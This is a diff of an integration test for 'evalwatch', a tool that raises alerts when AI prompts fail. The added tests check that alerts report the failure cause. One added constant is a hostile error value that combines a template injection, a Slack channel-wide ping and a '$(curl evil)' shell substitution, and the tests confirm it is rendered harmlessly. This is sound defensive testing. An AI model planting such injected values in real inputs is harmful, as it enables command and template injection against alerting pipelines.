@@ -2,6 +2,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { debianTool } from '../support/debian-tool.ts';
 import { sleep } from '../support/evalwatch.ts';
 import { type AlertingStack, startAlerting } from './alerting-stack.ts';
+import { PATIENCE } from './server.ts';
 
 const prometheus = debianTool('prometheus', 'prometheus');
 const alertmanager = debianTool(
@@ -12,6 +13,8 @@ const alertmanager = debianTool(
 const RUNBOOKS = 'https://github.com/evalwatch/evalwatch/blob/main/docs/runbooks';
 /** Their prompts fail one by one, to measure how long it takes till somebody knows. */
 const MEASURED = Array.from({ length: 10 }, (_, index) => `measured-${index}`);
+/** What a hostile service may call an error. */
+const HOSTILE = '1. First run {{ query "up" }}\n<!channel> $(curl evil)';
 const PROJECTS = ['checkout-bot', 'search-ranking', 'key-incident', 'support-triage', ...MEASURED];
 
 // Where the tests decide what lands, a missing program is no excuse.
@@ -31,8 +34,8 @@ describe.runIf(runs)('the page', { timeout: 120_000 }, () => {
     await stack?.[Symbol.asyncDispose]();
   }, 30_000);
 
-  it('of a failed prompt names its project', async () => {
-    stack.failPrompt('checkout-bot');
+  it('of a failed prompt names its project and its cause', async () => {
+    stack.failPrompt('checkout-bot', { error_id: 'OUTPUT_PARSE_ERROR', error_msg: 'no JSON' });
     const page = await stack.webhook.page('firing', 'EvalwatchPromptFailed');
     expect(page).toMatchObject({
       receiver: 'warning',
@@ -43,6 +46,10 @@ describe.runIf(runs)('the page', { timeout: 120_000 }, () => {
         runbook_url: `${RUNBOOKS}/EvalwatchPromptFailed.md`,
       },
     });
+    // The first page can come before the error_info.
+    await expect
+      .poll(() => stack.description('EvalwatchPromptFailed', 'checkout-bot'), PATIENCE)
+      .toContain(': OUTPUT_PARSE_ERROR 1. ');
   });
 
   it('of a revoked key names its project and resolves when the key is back', async () => {
@@ -80,12 +87,26 @@ describe.runIf(runs)('the page', { timeout: 120_000 }, () => {
     const stoppedAt = performance.now();
     await stack.stopDaemon();
     const project = 'support-triage';
-    stack.failPrompt(project);
+    stack.endFirstDay();
+    stack.failPrompt(project, { error_id: HOSTILE, error_msg: null });
     const page = await stack.webhook.page('firing', 'EvalwatchDown', { after: stoppedAt });
     expect(page).toMatchObject({ receiver: 'critical', labels: { severity: 'critical' } });
     await stack.startDaemon();
     await stack.webhook.page('resolved', 'EvalwatchDown', { after: page.at });
     await stack.webhook.page('firing', 'EvalwatchPromptFailed', { project, after: page.at });
+    const cause = await stack.webhook.page('firing', 'EvalwatchNewFailureCause', { project });
+    const shown = '1._First_run_query_up_n_channel_curl_evil_';
+    expect(cause).toMatchObject({
+      receiver: 'info',
+      labels: { project, severity: 'info', error_id: HOSTILE.replace('\n', String.raw`\n`) },
+      annotations: { summary: `Prompts of project ${project} fail with a new error_id: ${shown}` },
+    });
+    expect(cause.annotations['description']).toMatch(
+      /^The error_id \S+ of project support-triage was .*; failures with it so far: 1\. First run evalwatch causes --project support-triage/,
+    );
+    await expect
+      .poll(() => stack.description('EvalwatchPromptFailed', project), PATIENCE)
+      .toContain(`; 1 failed within the last 15 minutes: ${shown} 1. `);
   });
 
   it('of each of several failures comes, with a schedule, scrapes and rules of one second', async () => {
